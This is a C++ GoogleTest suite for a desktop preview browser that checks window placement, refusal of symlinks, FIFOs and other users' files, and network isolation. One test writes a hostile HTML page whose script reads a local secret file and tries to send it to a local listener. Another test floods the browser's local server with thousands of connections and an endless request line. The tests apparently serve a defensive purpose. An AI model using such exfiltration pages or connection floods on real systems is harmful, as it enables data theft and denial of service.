// The preview against the real browser, in a desktop session of its own
// (X server, window manager, session bus).
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <QDBusConnection>
#include <QDBusMessage>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QImage>
#include <QImageReader>
#include <QSet>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QThread>
#include <QUrl>
#include <cerrno>
#include <iostream>

#include "BrowserProbe.h"
#include "composer/GlyphCatalogue.h"
#include "gui/core/AppDir.h"
#include "gui/core/RuntimeError.h"
#include "preview/PreviewBrowser.h"

namespace {

const QRect PreviewRect(100, 300, 400, 400);

// Every browser this test starts keeps a trace, and reaches no network: all
// remote addresses go to a proxy that is not there.
class PreviewEnvironment : public testing::Environment {
public:
    void SetUp() override {
        runtime::SetAppDir(QStringLiteral(PROGRAM_DIR));
        qputenv("DURURIVE_BROWSER_TRACE",
                QDir(dir_.path()).filePath(QStringLiteral("trace")).toUtf8());
        qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--proxy-server=http://127.0.0.1:9");
    }

private:
    QTemporaryDir dir_;
};
const auto* const environment = testing::AddGlobalTestEnvironment(new PreviewEnvironment);

QString Scrap(const QString& text) {
    QString scrap;
    for (QChar character : text) scrap += GlyphCatalogue::Lookup(character, 1).tag;
    return scrap;
}

// The working directory of one test, holding a scrap file.
class ScrapDirectory {
public:
    explicit ScrapDirectory(const QString& name = QStringLiteral("work"),
                            const QString& text = QStringLiteral("ab")) {
        path_ = QDir(root_.path()).filePath(name);
        QDir().mkpath(path_);
        QFile file(QDir(path_).filePath(QStringLiteral("scrap.htm")));
        file.open(QIODevice::WriteOnly);
        file.write((Scrap(text) + QStringLiteral("\r\n")).toUtf8());
        previous_ = QDir::currentPath();
        QDir::setCurrent(path_);
    }
    ~ScrapDirectory() { QDir::setCurrent(previous_); }
    QString ScrapPath() const { return QDir(path_).filePath(QStringLiteral("scrap.htm")); }
    QString Path() const { return path_; }

private:
    QTemporaryDir root_;
    QString path_;
    QString previous_;
};

// Opens one preview and returns the path of the window it made.
QString Preview() {
    const QStringList before = probe::CreatedWindows();
    OpenPreviewBrowser(300, 100, 400, 400);
    const QStringList after = probe::CreatedWindows();
    EXPECT_EQ(after.size(), before.size() + 1);
    return after.value(after.size() - 1);
}

// The X window of a preview once it shows its page: the engine may replace
// the native window while the window is first shown.
qulonglong ShownWindowId(const QString& path) {
    const auto showsPage = [&] {
        for (const probe::TraceLine& line : probe::TraceOf(path)) {
            if (line.event.startsWith(QLatin1String("load"))) return true;
        }
        return false;
    };
    EXPECT_TRUE(probe::WaitFor(showsPage, 20000))
        << path.toStdString() << " never finished loading";
    return probe::WindowId(path);
}

testing::AssertionResult SettlesAt(qulonglong windowId, const QRect& rect) {
    if (probe::WaitFor([&] { return probe::OuterRect(windowId) == rect; }, 5000))
        return testing::AssertionSuccess();
    const QRect outer = probe::OuterRect(windowId);
    return testing::AssertionFailure()
           << "window " << windowId << " lies at " << outer.x() << "," << outer.y() << " "
           << outer.width() << "x" << outer.height();
}

QStringList Events(const QString& path) {
    QStringList events;
    for (const probe::TraceLine& line : probe::TraceOf(path)) {
        events.append(line.value.isEmpty() ? line.event
                                           : line.event + QLatin1Char(' ') + line.value);
    }
    return events;
}

TEST(PreviewTest, MakesTheCallsInOrderAndPlacesTheWindow) {
    ScrapDirectory directory;
    probe::ClearTrace();
    const QString window = Preview();
    ASSERT_TRUE(probe::WaitForTrace(window, QStringLiteral("loaded"), 20000))
        << Events(window).join('\n').toStdString();
    QThread::msleep(300);  // anything asked after the calls would show now
    QStringList calls = Events(window);
    EXPECT_TRUE(calls.contains("exposed")) << "the window was never exposed";
    calls.removeIf(
        [](const QString& event) { return event == "exposed" || event.startsWith("loaded"); });
    EXPECT_EQ(calls,
              (QStringList{"CreateWindow", "Visible true", "Navigate " + directory.ScrapPath(),
                           "Top 300", "Left 100", "Width 400", "Height 400"}));
    const qulonglong id = ShownWindowId(window);
    EXPECT_TRUE(SettlesAt(id, PreviewRect));
    // The rectangle is the outer one: the window manager's frame lies inside it.
    EXPECT_GT(probe::FrameExtents(id).top(), 0)
        << "the window has no frame; is the window manager running?";
    EXPECT_TRUE(probe::WindowTitle(id).contains(QLatin1String("scrap.htm")))
        << probe::WindowTitle(id).toStdString();
}

TEST(PreviewTest, TwoPreviewsGiveTwoWindowsOnTheSameRectangle) {
    ScrapDirectory directory;
    const QString first = Preview();
    const QString second = Preview();
    ASSERT_NE(first, second);
    const qulonglong firstId = ShownWindowId(first), secondId = ShownWindowId(second);
    ASSERT_NE(firstId, secondId);
    EXPECT_TRUE(SettlesAt(firstId, PreviewRect));
    EXPECT_TRUE(SettlesAt(secondId, PreviewRect));
    EXPECT_TRUE(probe::IsViewable(firstId));
    EXPECT_TRUE(probe::IsViewable(secondId));
}

TEST(PreviewTest, OpensTheScrapOfTheWorkingDirectoryWhateverItsName) {
    {
        ScrapDirectory directory(QStringLiteral("with blanks #2 Ünïcødé ßø"));
        const QString window = Preview();
        ASSERT_TRUE(probe::WaitFor([&] { return Events(window).filter("load").size() > 0; }, 20000))
            << Events(window).join('\n').toStdString();
        EXPECT_TRUE(Events(window).contains("Navigate " + directory.ScrapPath()));
        EXPECT_TRUE(Events(window).contains(
            "loaded " + QUrl::fromLocalFile(directory.ScrapPath()).toString(QUrl::FullyEncoded)))
            << Events(window).join('\n').toStdString();
        EXPECT_NE(directory.Path(), runtime::AppDir());
    }
    {
        // No scrap at all: the browser shows that, and the caller hears nothing.
        ScrapDirectory directory;
        QFile::remove(directory.ScrapPath());
        const QString window = Preview();
        EXPECT_TRUE(probe::WaitForTrace(window, QStringLiteral("load-failed"), 20000))
            << Events(window).join('\n').toStdString();
    }
}

// What OpenPreviewBrowser raised; empty when it raised nothing.
QString PreviewFailure() {
    try {
        OpenPreviewBrowser(300, 100, 400, 400);
    } catch (const runtime::RuntimeError& error) {
        return error.Message();
    }
    return {};
}

// Only a regular file of the user is shown: a page another user left in a
// shared folder, a link or a FIFO is refused before any window opens.
TEST(PreviewTest, RefusesAScrapThatIsNotTheUsersOwnFile) {
    ScrapDirectory directory;
    QTemporaryDir elsewhere;
    const QString page = QDir(elsewhere.path()).filePath(QStringLiteral("page.htm"));
    QFile(directory.ScrapPath()).rename(page);
    const auto refused = [&](const char* reason) {
        const QStringList before = probe::CreatedWindows();
        const QString message = PreviewFailure();
        EXPECT_TRUE(message.contains(directory.ScrapPath()) &&
                    message.contains(QLatin1String(reason)))
            << "got: " << message.toStdString();
        EXPECT_EQ(probe::CreatedWindows(), before) << "a window was opened for it";
    };
    ASSERT_TRUE(QFile::link(page, directory.ScrapPath()));
    refused("symbolic link");
    ASSERT_TRUE(QFile::remove(directory.ScrapPath()));
    ASSERT_EQ(mkfifo(QFile::encodeName(directory.ScrapPath()).constData(), 0600), 0);
    refused("not a regular file");
    ASSERT_TRUE(QFile::remove(directory.ScrapPath()));

    if (geteuid() != 0)
        GTEST_SKIP() << "needs root, to give the file to a second user (nobody, uid 65534)";
    ASSERT_TRUE(QFile::copy(page, directory.ScrapPath()));
    ASSERT_EQ(chown(QFile::encodeName(directory.ScrapPath()).constData(), 65534, 65534), 0);
    refused("another user");
}

// A working folder the preview cannot name again: removed while the program
// runs, too deep for its path to be read back, or named in bytes that are
// not UTF-8. Each is said, and no window opens.
TEST(PreviewTest, AWorkingFolderThatCannotBeNamedIsReportedAndOpensNoWindow) {
    const QString previous = QDir::currentPath();
    QTemporaryDir root;
    const auto refusedIn = [&](const char* where, const char* reason) {
        const QStringList before = probe::CreatedWindows();
        const QString message = PreviewFailure();
        EXPECT_TRUE(message.contains("scrap.htm") && message.contains(QLatin1String(reason)))
            << where << ": " << message.toStdString();
        EXPECT_EQ(probe::CreatedWindows(), before) << where << ": a window was opened";
        ASSERT_TRUE(QDir::setCurrent(previous));
    };
    const QByteArray base = QFile::encodeName(root.path());
    ASSERT_EQ(::mkdir((base + "/gone").constData(), 0700), 0);
    ASSERT_EQ(::chdir((base + "/gone").constData()), 0);
    ASSERT_EQ(::rmdir((base + "/gone").constData()), 0);
    refusedIn("a removed folder", "no longer exists");

    ASSERT_EQ(::chdir(base.constData()), 0);
    for (int depth = 0; depth < 24; ++depth) {
        const QByteArray name(200, char('a' + depth % 26));
        ASSERT_EQ(::mkdir(name.constData(), 0700), 0);
        ASSERT_EQ(::chdir(name.constData()), 0);
    }
    refusedIn("a folder 4,800 bytes deep", "longer than 4095 bytes");

    ASSERT_EQ(::mkdir((base + "/\xff\xfe latin-1 \xe9").constData(), 0700), 0);
    ASSERT_EQ(::chdir((base + "/\xff\xfe latin-1 \xe9").constData()), 0);
    refusedIn("a folder named in Latin-1", "not valid UTF-8");
    // Too deep for QDir to remove.
    probe::Run(QStringLiteral("/bin/rm"), {QStringLiteral("-rf"), root.path()}, 20000);
}

// A page the browser refuses after the window was made (here one larger
// than a scrap can be, which only the browser checks): the window goes.
TEST(PreviewTest, ARefusedPageClosesTheWindowMadeForIt) {
    ScrapDirectory directory;
    QFile scrap(directory.ScrapPath());
    ASSERT_TRUE(scrap.open(QIODevice::WriteOnly) && scrap.resize(300 * 1024));
    scrap.close();
    probe::ClearTrace();
    const QString message = PreviewFailure();
    EXPECT_TRUE(message.contains("refused") && message.contains("larger than"))
        << message.toStdString();
    const QStringList windows = probe::CreatedWindows();
    ASSERT_EQ(windows.size(), 1);
    EXPECT_TRUE(Events(windows[0]).contains("Visible false"))
        << Events(windows[0]).join('\n').toStdString();
    EXPECT_TRUE(probe::WaitFor([&] { return !probe::WindowObjectExists(windows[0]); }, 10000))
        << "the refused window is still there: " << Events(windows[0]).join('\n').toStdString();
}

// Whether the picture appears in the shot, at any place, in full; its
// transparent pixels may show anything.
bool Shows(const QImage& shot, const QImage& picture) {
    const QImage frame = picture.convertToFormat(QImage::Format_ARGB32);
    for (int y = 0; y + frame.height() <= shot.height(); ++y) {
        for (int x = 0; x + frame.width() <= shot.width(); ++x) {
            bool same = true;
            for (int py = 0; same && py < frame.height(); ++py) {
                for (int px = 0; px < frame.width(); ++px) {
                    const QRgb want = frame.pixel(px, py);
                    if (qAlpha(want) < 128) continue;
                    const QRgb got = shot.pixel(x + px, y + py);
                    if (std::abs(qRed(want) - qRed(got)) + std::abs(qGreen(want) - qGreen(got)) +
                            std::abs(qBlue(want) - qBlue(got)) >
                        24) {
                        same = false;
                        break;
                    }
                }
            }
            if (same) return true;
        }
    }
    return false;
}

QList<QImage> Frames(const QString& file) {
    QList<QImage> frames;
    QImageReader reader(file);
    for (QImage frame = reader.read(); !frame.isNull(); frame = reader.read()) frames.append(frame);
    return frames;
}

// Screenshots of the top-left corner of a preview window, where a scrap's
// first picture lies, taken once the window has loaded and settled. The page
// paints its picture some time after it has loaded, so shots are taken until
// one shows a frame of the glyph (the last one taken otherwise).
QImage ShotShowingAFrameOf(const QString& window, const ScrapDirectory& directory,
                           const QString& glyph, int* shots) {
    EXPECT_TRUE(probe::WaitForTrace(window, QStringLiteral("loaded"), 20000))
        << Events(window).join('\n').toStdString();
    EXPECT_TRUE(SettlesAt(ShownWindowId(window), PreviewRect));
    const QList<QImage> frames = Frames(runtime::AppPath(glyph));
    const QRect page(PreviewRect.topLeft(), QSize(160, 120));
    QImage shot;
    probe::WaitFor(
        [&] {
            shot = QImage(probe::Screenshot(
                page,
                QDir(directory.Path()).filePath(QStringLiteral("shot%1.png").arg((*shots)++))));
            for (const QImage& frame : frames) {
                if (Shows(shot, frame)) return true;
            }
            return false;
        },
        20000);
    return shot;
}

bool ShowsAFrameOf(const QImage& shot, const QString& glyph) {
    for (const QImage& frame : Frames(runtime::AppPath(glyph))) {
        if (Shows(shot, frame)) return true;
    }
    return false;
}

TEST(PreviewTest, ShowsTheGlyphPicturesAnimatingWithNoNetwork) {
    ScrapDirectory directory(QStringLiteral("work"), QStringLiteral("a"));
    ASSERT_GE(Frames(runtime::AppPath(QStringLiteral("\\1\\a.gif"))).size(), 2);
    int shots = 0;
    const QImage first =
        ShotShowingAFrameOf(Preview(), directory, QStringLiteral("\\1\\a.gif"), &shots);
    ASSERT_FALSE(first.isNull());
    EXPECT_TRUE(ShowsAFrameOf(first, QStringLiteral("\\1\\a.gif")))
        << "no frame of a.gif in the preview after " << shots << " shots";
    const QRect page(PreviewRect.topLeft(), QSize(160, 120));
    EXPECT_TRUE(probe::WaitFor(
        [&] {
            return QImage(probe::Screenshot(
                       page, QDir(directory.Path())
                                 .filePath(QStringLiteral("shot%1.png").arg(shots++)))) != first;
        },
        5000))
        << "the preview does not animate";
}

// What the browser started last wrote; a failing caller points to it.
std::string BrowserLog() {
    QFile log(qEnvironmentVariable("XDG_RUNTIME_DIR") + QStringLiteral("/dururive-browser.log"));
    if (!log.open(QIODevice::ReadOnly)) return "(no browser log)";
    return "the browser's log:\n" + log.readAll().toStdString();
}

// A listener on 127.0.0.1 that keeps what reaches it.
class Listener : public QTcpServer {
public:
    Listener() {
        listen(QHostAddress::LocalHost);
        connect(this, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = nextPendingConnection()) {
                received_ += "<connection>";
                connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
                    received_ += socket->readAll();
                    socket->abort();
                });
            }
        });
    }
    QString Address() const { return QStringLiteral("http://127.0.0.1:%1").arg(serverPort()); }
    const QByteArray& Received() const { return received_; }

private:
    QByteArray received_;
};

// A scrap.htm that someone else wrote where the user works. Opened as the
// user's own file, it reads nothing and sends nothing: each of its ways to
// read a file or reach an address holds up the end of its loading, so
// whatever gets through has reached the listener by then.
TEST(PreviewTest, APlantedPageReadsNoFileAndReachesNoAddress) {
    ScrapDirectory directory;
    const QString secret = QDir(directory.Path()).filePath(QStringLiteral("secret.txt"));
    QFile file(secret);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write("the user's secret");
    file.setPermissions(QFile::ReadOwner | QFile::WriteOwner);
    file.close();
    Listener listener;
    const QString to = listener.Address(), from = QUrl::fromLocalFile(secret).toString();
    QFile scrap(directory.ScrapPath());
    ASSERT_TRUE(scrap.open(QIODevice::WriteOnly));
    scrap.write(QStringLiteral(
                    "<link rel='preconnect' href='%1'><link rel='stylesheet' href='%1/css'>"
                    "<script>var x = new XMLHttpRequest(); x.open('GET', '%2', false); x.send();"
                    "document.write(\"<img src='%1/script?\" + encodeURIComponent(x.responseText) "
                    "+ \"'>\");</script>"
                    "<img src='%1/img'><iframe src='%2'></iframe><iframe src='%1/frame'></iframe>"
                    "<object data='%2'></object><img src='%1/' style='background: url(%1/style)'>")
                    .arg(to, from)
                    .toUtf8());
    scrap.close();

    const QString window = Preview();
    EXPECT_TRUE(probe::WaitFor(
        [&] { return !Events(window).filter(QStringLiteral("load")).isEmpty(); }, 20000));
    EXPECT_FALSE(probe::WaitFor([&] { return !listener.Received().isEmpty(); }, 1000))
        << "the listener received: " << listener.Received().constData();

    // Left by another user, the page is not opened at all.
    if (::geteuid() != 0)
        GTEST_SKIP() << "a page of another user: only root can give a file to another user";
    ASSERT_EQ(::chown(QFile::encodeName(directory.ScrapPath()).constData(), 65534, 65534), 0);
    QString error;
    try {
        OpenPreviewBrowser(300, 100, 400, 400);
    } catch (const runtime::RuntimeError& failure) {
        error = failure.Message();
    }
    EXPECT_TRUE(error.contains(directory.ScrapPath()))
        << "Preview of another user's page: " << error.toStdString();
}

// The port on 127.0.0.1 that process pid listens on.
quint16 ListeningPort(qint64 pid) {
    QSet<QByteArray> sockets;
    for (const QString& fd : QDir(QStringLiteral("/proc/%1/fd").arg(pid)).entryList(QDir::System)) {
        char target[64] = {};
        if (::readlink(
                QFile::encodeName(QStringLiteral("/proc/%1/fd/%2").arg(pid).arg(fd)).constData(),
                target, sizeof target - 1) > 0) {
            sockets.insert(QByteArray(target));
        }
    }
    QFile tcp(QStringLiteral("/proc/%1/net/tcp").arg(pid));
    tcp.open(QIODevice::ReadOnly);
    for (const QByteArray& line : tcp.readAll().split('\n')) {
        const QList<QByteArray> fields =
            line.simplified().split(' ');  // sl local remote state ... inode
        if (fields.size() > 9 && fields[3] == "0A" && fields[1].startsWith("0100007F:") &&
            sockets.contains("socket:[" + fields[9] + "]")) {
            return quint16(fields[1].mid(9).toUInt(nullptr, 16));
        }
    }
    return 0;
}

int OpenFiles(qint64 pid) {
    return QDir(QStringLiteral("/proc/%1/fd").arg(pid)).entryList(QDir::System).size();
}

qint64 ResidentKb(qint64 pid) {
    QFile status(QStringLiteral("/proc/%1/status").arg(pid));
    status.open(QIODevice::ReadOnly);
    const QByteArray text = status.readAll();
    return text.mid(text.indexOf("VmRSS:") + 6).trimmed().split(' ').value(0).toLongLong();
}

// A connection to 127.0.0.1:port that does not wait for the server.
int Connect(quint16 port) {
    const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(port);
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ::connect(fd, reinterpret_cast<const sockaddr*>(&address), sizeof address);
    return fd;
}

// What any local process can do to the browser's glyph server: ask without
// its secret, hold thousands of connections, half close them, send a
// request line without end.
TEST(PreviewTest, NothingDoneToTheGlyphServerHoldsUpThePreview) {
    ScrapDirectory first(QStringLiteral("first"), QStringLiteral("a"));
    const QString shown = Preview();
    ASSERT_TRUE(probe::WaitForTrace(shown, QStringLiteral("loaded"), 20000));
    const qint64 pid = probe::BrowserPid();
    const quint16 port = ListeningPort(pid);
    ASSERT_NE(port, 0) << "the browser listens on no port of 127.0.0.1";
    rlimit files{};
    ::getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    ::setrlimit(RLIMIT_NOFILE, &files);
    ASSERT_GE(files.rlim_cur, 5000u);
    const int filesBefore = OpenFiles(pid);
    const qint64 residentBefore = ResidentKb(pid);

    QTcpSocket stranger;
    stranger.connectToHost(QHostAddress::LocalHost, port);
    ASSERT_TRUE(stranger.waitForConnected(3000));
    stranger.write("GET /1/a.gif HTTP/1.0\r\n\r\n");
    stranger.waitForDisconnected(3000);
    EXPECT_FALSE(stranger.readAll().contains("200 OK"))
        << "a glyph went to a process that does not know the secret";

    std::vector<int> held;
    for (int i = 0; i < 4000; ++i) held.push_back(Connect(port));
    for (int i = 0; i < 1000; ++i) ::shutdown(held[i], SHUT_WR);
    const int endless = Connect(port);
    const QByteArray line(1 << 20, 'x');
    qint64 sent = 0;
    QElapsedTimer clock;
    clock.start();
    while (sent < (qint64(400) << 20) && clock.elapsed() < 5000) {
        const ssize_t n = ::send(endless, line.constData(), line.size(), MSG_NOSIGNAL);
        if (n > 0) sent += n;
        if (n < 0 && errno != EAGAIN && errno != EINPROGRESS && errno != ENOTCONN)
            break;  // cut off
        if (n <= 0) QThread::msleep(1);
    }
    ::close(endless);

    // The browser answers on the bus at once and serves a glyph it has not
    // served yet, its other connections held meanwhile.
    QDBusMessage get = QDBusMessage::createMethodCall(
        QStringLiteral("org.dururive.Browser"), shown,
        QStringLiteral("org.freedesktop.DBus.Properties"), QStringLiteral("Get"));
    get << QStringLiteral("org.dururive.Browser.Window") << QStringLiteral("Visible");
    clock.restart();
    const QDBusMessage reply = QDBusConnection::sessionBus().call(get, QDBus::Block, 5000);
    const qint64 answeredMs = clock.elapsed();
    EXPECT_EQ(reply.type(), QDBusMessage::ReplyMessage) << reply.errorMessage().toStdString();
    EXPECT_LT(answeredMs, 1000) << "the bus answered after " << answeredMs << " ms";
    const qint64 grownKb = ResidentKb(pid) - residentBefore;
    // The engine's own work in the process moves it by up to some 15 MB;
    // before the limit, each byte of the line stayed.
    EXPECT_LT(grownKb, 32 * 1024) << "the browser grew by " << grownKb << " kB";
    std::cout << "after " << sent << " bytes of a request line and " << held.size()
              << " connections the browser grew by " << grownKb << " kB and answered in "
              << answeredMs << " ms" << std::endl;
    {
        ScrapDirectory second(QStringLiteral("second"), QStringLiteral("b"));
        int shots = 0;
        const QImage shot =
            ShotShowingAFrameOf(Preview(), second, QStringLiteral("\\1\\b.gif"), &shots);
        EXPECT_TRUE(ShowsAFrameOf(shot, QStringLiteral("\\1\\b.gif")))
            << "no frame of b.gif in the preview after " << shots << " shots";
    }

    for (const int fd : held) ::close(fd);
    EXPECT_TRUE(probe::WaitFor([&] { return OpenFiles(pid) <= filesBefore + 16; }, 2000))
        << OpenFiles(pid) << " files open, " << filesBefore << " before";
}

TEST(PreviewTest, WindowStaysWithTheUserAfterTheCallerEnds) {
    ScrapDirectory directory;
    // The caller itself starts the browser.
    const qint64 earlier = probe::BrowserPid();
    ASSERT_TRUE(probe::EndBrowser());
    const QStringList before = probe::CreatedWindows();
    // Through a pipe: a browser that kept the caller's output open would
    // keep the pipe's reader waiting. pipefail keeps the caller's status.
    QString output;
    const int status =
        probe::Run(QStringLiteral("/bin/bash"),
                   {QStringLiteral("-c"), QStringLiteral("set -o pipefail; \"$0\" 2>&1 | cat"),
                    QStringLiteral(PREVIEW_CALLER)},
                   30000, &output, {}, directory.Path());
    ASSERT_EQ(status, 0) << "the caller said: " << output.toStdString() << "\n" << BrowserLog();
    const QStringList after = probe::CreatedWindows();
    ASSERT_EQ(after.size(), before.size() + 1)
        << "windows before: " << before.join(' ').toStdString()
        << "\nafter: " << after.join(' ').toStdString() << "\n"
        << BrowserLog();
    const qulonglong id = ShownWindowId(after.last());
    EXPECT_TRUE(SettlesAt(id, PreviewRect));
    EXPECT_TRUE(probe::IsViewable(id));
    const qint64 browser = probe::BrowserPid();
    ASSERT_GT(browser, 0);
    EXPECT_NE(browser, earlier) << "the window came from a browser the caller did not start";
    EXPECT_NE(probe::SessionOf(browser), probe::SessionOf(QCoreApplication::applicationPid()));
    EXPECT_EQ(QFile::symLinkTarget(QStringLiteral("/proc/%1/fd/0").arg(browser)),
              QStringLiteral("/dev/null"));
}

}  // namespace
